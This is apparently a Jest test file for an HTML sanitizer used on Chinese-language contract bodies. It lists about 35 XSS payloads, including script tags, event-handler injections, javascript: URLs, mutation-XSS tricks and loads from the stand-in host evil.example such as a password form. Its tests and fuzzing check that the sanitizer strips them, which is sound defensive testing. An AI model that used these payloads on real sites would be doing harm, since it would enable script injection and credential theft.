import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { testDepth } from '../../testing/test-depth.ts';
import { agreementBody, sanitizeBody } from './body.ts';

/** Content that a browser could run or load, in the forms used by XSS attacks. */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="java&#x0A;script:alert(1)">点我</a>',
  '<a href=" &#14; javascript:alert(1)">点我</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">点我</a>',
  '<a href="//evil.example">点我</a>',
  '<a href="/order/vip">点我</a>',
  '<a href="http://evil.example">点我</a>',
  '<a href="https://example.com" onclick="alert(1)" style="position:fixed;inset:0" class="x" id="y">点我</a>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<div style="position:fixed;inset:0;z-index:99999" class="arco-modal" id="root" data-x="1">x</div>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">登录</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src="https://evil.example/x.mp4" onloadstart=alert(1)></video><audio src=x></audio>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<table background="https://evil.example/x.png"><tr><td colspan="9999999" rowspan="9999999" onmouseover="alert(1)">x</td></tr></table>',
  '<p title="x" onclick\n=\n"alert(1)">x</p>',
  '<<script>script>alert(1)<</script>/script>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext>',
  '"><img src=x onerror=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
];

/** Whether only the allowed elements and attributes are left, and links use https only. */
function isHarmless(html: string): boolean {
  const tags = [...html.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)];
  const names = new Set(
    'h1 h2 h3 h4 h5 h6 p div blockquote ul ol li hr br table caption thead tbody tfoot tr th td strong em u span a'.split(
      ' ',
    ),
  );
  const rest = html.replaceAll(/<\/?[a-z0-9]+[^>]*>/gi, '');
  return (
    !rest.includes('<') &&
    tags.every(
      ([, name = '', attributes = '']) =>
        names.has(name) &&
        /^(?: ?\/| href="https:\/\/[^"<>]*" rel="noopener noreferrer nofollow" target="_blank"| colspan="(?:[1-9]|1\d|20)")?$/.test(
          attributes.trimEnd(),
        ),
    )
  );
}

describe('a contract body', () => {
  it.each(hostile)('keeps nothing that acts of %s', (html) => {
    const clean = sanitizeBody(html);
    expect([clean, isHarmless(clean)]).toEqual([clean, true]);
    expect(clean).not.toMatch(/alert\(1\)(?!&lt;)/);
    expect(sanitizeBody(clean)).toBe(clean);
  });

  it('keeps what a contract is written with', () => {
    const html =
      '<h1>合同</h1><p>甲方<strong>与</strong>乙方<em>约</em>定<u>如下</u>：<br />见 <a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">附件</a></p><ol><li>一</li></ol><blockquote>注意</blockquote><hr /><table><thead><tr><th>项</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table><div><span>完</span></div>';
    expect(sanitizeBody(html)).toBe(html);
    expect(sanitizeBody('<b>粗</b><i>斜</i>')).toBe('<strong>粗</strong><em>斜</em>');
  });

  it('is flat enough to be shown and printed, however deep it was', () => {
    const clean = sanitizeBody(`${'<div>'.repeat(5000)}底${'</div>'.repeat(5000)}`);
    expect(clean.match(/<div>/g)?.length).toBeLessThanOrEqual(20);
    expect(clean).toContain('底');
  });

  it.each(['<p> &nbsp; </p>', '<script>x</script>', '<img src=x>', '<hr>', '<p>\u200b</p>'])(
    'that says nothing is refused: %s',
    (html) => {
      expect(() => agreementBody(html)).toThrow(expect.objectContaining({ code: 400 }));
    },
  );

  it('whose paragraphs meet when a tag between them goes is stable', () => {
    const clean = sanitizeBody('<p><unknown><p>');
    expect(sanitizeBody(clean)).toBe(clean);
  });

  it('made of the pieces of attacks stays harmless, and sanitising again changes nothing', () => {
    const pieces = fc.array(
      fc.constantFrom(
        ...hostile.flatMap((html) => html.match(/.{1,6}/gs) ?? []),
        '<p>',
        '</p>',
        '<table><tr><td>',
        '"',
        "'",
        '<!--',
        '-->',
        ']]>',
      ),
      {
        maxLength: 30,
      },
    );
    fc.assert(
      fc.property(pieces, (parts) => {
        const clean = sanitizeBody(parts.join(''));
        expect([clean, isHarmless(clean)]).toEqual([clean, true]);
        expect(sanitizeBody(clean)).toBe(clean);
      }),
      { numRuns: testDepth.everyVariant ? 2000 : 400 },
    );
  });
});
